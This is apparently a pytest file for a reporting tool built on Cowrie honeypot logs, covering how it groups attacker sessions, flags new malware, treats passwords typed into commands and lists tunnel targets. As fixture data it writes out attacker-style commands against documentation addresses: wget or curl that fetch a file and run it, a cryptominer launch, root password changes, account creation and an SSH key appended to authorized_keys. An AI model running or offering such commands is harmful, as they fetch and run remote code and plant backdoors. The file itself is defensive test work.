"""Reports of the cases that users sent in: what their notes say a report must, and must not, tell; on both engines."""

import random
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from string import ascii_lowercase
from typing import Any

import pytest

from cowrie_assets.operations.ingest import ingest
from cowrie_assets.reports.document import build_report
from cowrie_assets.reports.periods import parse_period
from cowrie_assets.settings import Settings
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets_tests.reports.golden.evidence import Line, session_of, write_logs
from cowrie_assets_tests.reports.test_document import LATER

pytestmark = pytest.mark.sqlite_first

CASES = Path(__file__).parents[1] / "cases"
DAY = "2026-09-01T06:00:00"
Report = Callable[..., Any]


@pytest.fixture
def warehouse(database_url: str) -> Any:
    """A database of the test's own: logs are loaded into it."""
    with Warehouse.open(database_url) as opened:
        yield opened


@pytest.fixture
def report_of(warehouse: Warehouse) -> Report:
    """Loads a folder of logs; gives the document of a day."""

    def loaded(root: Path, day: str = "2026-09-01", sensor: str | None = None) -> Any:
        ingest(warehouse, Settings(log_root=root))
        with warehouse.read() as connection:
            return build_report(connection, parse_period("daily", day), sensor, now_us=LATER)

    return loaded


def test_names_of_containers_are_no_silent_sensors(report_of: Report) -> None:
    document = report_of(CASES / "06_container_ids_silent" / "logs", "2026-09-09")
    assert document["alerts"] == []
    assert document["operations"]["gaps"] == []
    assert document["operations"]["replaced_names"] == [
        {"sensor": "0a0000000008", "by": "0a0000000009", "since": "2026-09-09T00:00:00Z"}
    ]


@pytest.mark.on_both_engines
def test_one_bot_takes_one_place_and_new_malware_the_first(report_of: Report) -> None:
    found = report_of(CASES / "07_one_bot_fills_sessions_to_look_at" / "logs")["interesting"]
    assert [each["alike"] for each in found] == [1, 1, 1, 120]
    assert all("brought 1 file never seen before" in each["reasons"] for each in found[:3])
    assert len({each["shasums"][0] for each in found[:3]}) == 3
    assert "no other session did the same" not in found[3]["reasons"]


# ---------------------------------------------------------------------------------------- bots that make up their words

USUAL = ("uname -a", "nproc", "free -m", "whoami", "w", "lscpu", "crontab -l")


def made_up(make: random.Random, letters: int = 7) -> str:
    return "".join(make.choices(ascii_lowercase, k=letters))


def in_any_order(make: random.Random) -> str:
    return "; ".join(make.sample(USUAL, k=len(USUAL)))


BOTS: dict[str, tuple[Callable[[str, random.Random], str], bool]] = {
    "polymorphic": (lambda word, _: f"cd /tmp; wget http://192.0.2.7/{word}; chmod 777 {word}; ./{word}", True),
    "saved": (lambda word, make: f"wget http://192.0.2.7/ -O {word}; sh {made_up(make)}", True),
    "printf": (lambda word, _: f"printf 'root:%s\\n' {word} | chpasswd", False),
    "crypt": (lambda word, _: f'perl -e \'print crypt("{word}","aa")\'', False),
    "account": (lambda word, make: f"useradd -m -p {word} {made_up(make)}", False),
    "key": (lambda word, _: f'echo "ssh-rsa {"AAAAB3NzaC1yc2E" * 4} {word}">>.ssh/authorized_keys', False),
    "folders": (lambda word, make: f"mkdir /tmp/{word} && cd /tmp/{made_up(make)}", False),
    "no download": (lambda word, _: f"wget http://192.0.2.7/{word}; chmod 777 {word}; ./{word}", False),
    "other name": (lambda word, make: f"wget http://192.0.2.7/{made_up(make)}; chmod 777 {word}; ./{word}", False),
    "echo": (lambda word, _: f"echo {word}", False),
    "echo and download": (lambda word, _: f"echo {word}", True),
    "word": (lambda word, _: word, True),
    "order": (lambda _, make: in_any_order(make), False),
}


@pytest.mark.parametrize("bot", BOTS)
def test_a_bot_that_makes_up_its_words_hides_no_malware(report_of: Report, tmp_path: Path, bot: str) -> None:
    types, downloads = BOTS[bot]
    make = random.Random(bot)
    sessions = []
    for number in range(103):
        malware = number >= 100
        at = f"http://192.0.2.9/m{number}"
        command = (
            f"curl {at} -o /tmp/k{number}; nohup /tmp/k{number} --pool x" if malware else types(made_up(make), make)
        )
        kinds = [
            {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
            {"eventid": "cowrie.command.input", "input": command},
        ]
        if malware or downloads:
            kinds.append({"eventid": "cowrie.session.file_download", "shasum": f"{number + 9:064x}", "url": at})
        sessions.append(list(session_of(DAY, number + 1, kinds)))
    write_logs(tmp_path, [line for session in sessions for line in session])
    found = report_of(tmp_path)["interesting"]
    brought = [number for number, each in enumerate(found) if each["sample_commands"][0].startswith("curl")]
    assert len(brought) == 3
    assert brought[-1] < 5
    assert len(found) - 3 <= 3


# -------------------------------------------------------------------------------------------------------- own passwords


def typing(password: str, *commands: str, number: int, username: str = "root") -> list[Line]:
    """A session that logs in with a password and types commands."""
    kinds = [
        {"eventid": "cowrie.login.success", "username": username, "password": password},
        *({"eventid": "cowrie.command.input", "input": command} for command in commands),
    ]
    return list(session_of(DAY, number, kinds))


def alike(report_of: Report, root: Path, *sessions: list[Line]) -> list[int]:
    """How many sessions each listed behaviour has."""
    write_logs(root, [line for session in sessions for line in session])
    return sorted(each["alike"] for each in report_of(root)["interesting"])


def test_a_password_that_the_session_logged_in_with_makes_no_other_behaviour(report_of: Report, tmp_path: Path) -> None:
    words = ["zzs", "AtEndZhRpppj", "123456", "p@ss", "VlugywCRgZCm", "abc1"]
    sessions = [typing(word, f"./scan 10.0.0.0/8 root {word}", number=n) for n, word in enumerate(words)]
    assert alike(report_of, tmp_path, *sessions) == [6]


def test_a_word_that_is_a_password_by_chance_stays(report_of: Report, tmp_path: Path) -> None:
    """Mirai logs in with `system`, `shell` or `sh` and types the same words."""
    sessions = [
        typing(word, "enable", "system", "shell", "sh", "cat /tmp/x", number=number)
        for number, word in enumerate(["system", "shell", "sh", "enable", "tmp", "root", "x"])
    ]
    assert alike(report_of, tmp_path, *sessions) == [7]


def test_a_lone_password_in_a_command_stays_what_it_is(report_of: Report, tmp_path: Path) -> None:
    """`tmp` stands in the first command alone: it is told like the second, where nobody has such a password."""
    sessions = [
        typing("tmp", "cd /tmp; wget http://192.0.2.1/1", number=1),
        typing("other", "cd /tmp; wget http://192.0.2.1/2", number=2),
    ]
    assert alike(report_of, tmp_path, *sessions) == [2]


def test_other_commands_with_their_own_passwords_stay_apart(report_of: Report, tmp_path: Path) -> None:
    sessions = [
        typing(word, f"./{program} {word}", number=number)
        for number, (word, program) in enumerate([("ab", "scan"), ("cd", "scan"), ("ef", "mine"), ("gh", "mine")])
    ]
    assert alike(report_of, tmp_path, *sessions) == [2, 2]


# -------------------------------------------------------------------------------------------------------------- tunnels


def tunnel(host: str | None, port: int | None) -> dict[str, Any]:
    return {"eventid": "cowrie.direct-tcpip.request", "dst_ip": host, "dst_port": port}


@pytest.mark.on_both_engines
def test_tunnel_targets_have_a_list(report_of: Report, tmp_path: Path) -> None:
    asked = (
        [tunnel("198.51.100.9", 25)] * 3 + [tunnel("2001:db8::9", 443)] * 2 + [tunnel("ya.ru", None), tunnel(None, 1)]
    )
    numbered = [{**kind, "message": f"{number}"} for number, kind in enumerate(asked)]
    write_logs(tmp_path, [*session_of(DAY, 1, numbered), *session_of("2026-09-02T06:00:00", 2, numbered[:1])])
    document = report_of(tmp_path)
    assert document["tunnels"] == {
        "unique_targets": 3,
        "top_targets": [
            {"value": "198.51.100.9:25", "count": 3},
            {"value": "[2001:db8::9]:443", "count": 2},
            {"value": "ya.ru", "count": 1},
        ],
    }
    assert document["sessions"]["tunnel_requests"] == 7


# ------------------------------------------------------------------------------------------------------------------ ids


def test_two_connections_with_one_id(report_of: Report, tmp_path: Path) -> None:
    first = list(session_of("2026-07-23T06:00:00", 5, []))
    again = list(session_of(DAY, 5, []))
    write_logs(tmp_path, [*first, *again])
    (told,) = report_of(tmp_path)["operations"]["reused_ids"]["sessions"]
    assert (told["session_id"], told["days"]) == (f"{5:012x}", timedelta(days=40).days)
